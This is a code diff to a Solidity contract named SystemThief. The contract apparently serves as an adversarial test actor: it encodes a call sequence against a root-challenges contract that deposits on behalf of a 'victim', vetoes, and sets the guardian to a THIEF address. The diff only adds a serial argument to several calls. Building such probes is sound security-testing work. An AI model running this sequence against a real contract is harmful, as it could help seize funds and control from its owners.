@@ -165,14 +165,15 @@ abstract contract SystemThief is SystemPayers {
     function _onReviews(address victim) private view returns (bytes[] memory calls) {
         (uint64 epoch, RewardLeaf memory leaf, bytes32[] memory path) = _leaf(trees.length - 1, 0);
         bytes32 word = challenges.subjectOfLeaf(leaf);
+        uint32 serial = challenges.review().serial;
         calls = new bytes[](13);
         calls[0] = abi.encodeCall(IRootChallenges.withdraw, (1));
         calls[1] = abi.encodeCall(IRootChallenges.deposit, (victim, 1_000_000e9));
         calls[2] = abi.encodeCall(IRootChallenges.challenge, (leaf, path, word, path));
-        calls[3] = abi.encodeCall(IRootChallenges.demandLeaf, (epoch, leaf, path));
+        calls[3] = abi.encodeCall(IRootChallenges.demandLeaf, (serial, epoch, leaf, path));
         calls[4] = abi.encodeCall(IRootChallenges.answerByNewestRoot, (leaf, word, path));
-        calls[5] = abi.encodeCall(IRootChallenges.demandPage, (0));
-        calls[6] = abi.encodeCall(IRootChallenges.veto, ("mine"));
+        calls[5] = abi.encodeCall(IRootChallenges.demandPage, (serial, 0));
+        calls[6] = abi.encodeCall(IRootChallenges.veto, (serial, "mine"));
         calls[7] = abi.encodeCall(IRootChallenges.open, (victim, epoch + 1, word, 2, time, true));
         calls[8] = abi.encodeCall(IRootChallenges.close, ());
         calls[9] = abi.encodeCall(IRootChallenges.setGuardian, (THIEF));
